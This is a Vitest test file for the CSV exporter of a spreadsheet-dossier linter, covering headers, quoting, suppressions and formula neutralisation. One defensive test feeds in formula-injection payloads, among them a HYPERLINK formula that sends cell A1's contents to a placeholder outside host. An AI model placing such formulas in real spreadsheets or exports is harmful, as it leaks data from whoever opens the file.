import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csv } from '../../src/format/csv.js';
import { joined } from '../../src/format/types.js';
import { cellFinding, ctx, groupFinding, resultOf } from './sample.js';

describe('-f csv', () => {
  it('starts with a byte-order mark and a header row, then one finding a line (RFC 4180, CRLF)', () => {
    const out = joined(csv(resultOf([cellFinding, groupFinding]), ctx));
    expect(out.startsWith('\uFEFFfile,sheet,cell,row,column,severity,ruleId,message,value,source,suppressed,reason\r\n')).toBe(true);
    expect(out.endsWith('\r\n')).toBe(true);
    const rows: string[][] = parse(out.slice(1));
    expect(rows).toEqual([
      ['file', 'sheet', 'cell', 'row', 'column', 'severity', 'ruleId', 'message', 'value', 'source', 'suppressed', 'reason'],
      ['ho-so/xã đắk rơ wa.xlsx', 'Danh sách', 'H12', '12', 'H', 'error', 'giao-duc/an-toan-antt', cellFinding.message, 'Không', '004 §III.3.a', '', ''],
      ['ho-so/xa-b.xlsx', '', 'UBND XÃ B', '', '', 'warning', 'binh-dinh/xa/so-luong', groupFinding.message, '', '002 §IV.1.đ', '', ''],
    ]);
  });

  it('lists the findings reviewed suppressions accept after the others, marked, with the reason (quoted and neutralised like any text)', () => {
    const result = { ...resultOf([groupFinding]), suppressed: { file: 'hoso-suppressions.json', findings: [{ ...cellFinding, reason: '=Sở chấp nhận, công văn 12' }] } };
    const rows: string[][] = parse(joined(csv(result, ctx)).slice(1));
    expect(rows.slice(1)).toEqual([
      ['ho-so/xa-b.xlsx', '', 'UBND XÃ B', '', '', 'warning', 'binh-dinh/xa/so-luong', groupFinding.message, '', '002 §IV.1.đ', '', ''],
      ['ho-so/xã đắk rơ wa.xlsx', 'Danh sách', 'H12', '12', 'H', 'error', 'giao-duc/an-toan-antt', cellFinding.message, 'Không', '004 §III.3.a', 'true', "'=Sở chấp nhận, công văn 12"],
    ]);
  });

  it('quotes fields with commas, quotes and line breaks', () => {
    const f = { ...cellFinding, message: 'Ghi "Có", không ghi\n"Không"' };
    expect(joined(csv(resultOf([f]), ctx)).split('\r\n')[1]).toContain(',"Ghi ""Có"", không ghi\n""Không""",');
  });

  it('neutralises a value that Excel would run as a formula (=, +, -, @, tab, carriage return) with an apostrophe', () => {
    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+2', '-3', '@SUM(A1)', '\t=1', '\r=1'];
    const out = joined(csv(resultOf(formulas.map((value, i) => ({ ...cellFinding, row: 10 + i, value }))), ctx));
    const rows: string[][] = parse(out.slice(1));
    expect(rows.slice(1).map((r) => r[8])).toEqual(formulas.map((v) => `'${v}`));
    expect(out).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")",`);
  });
});
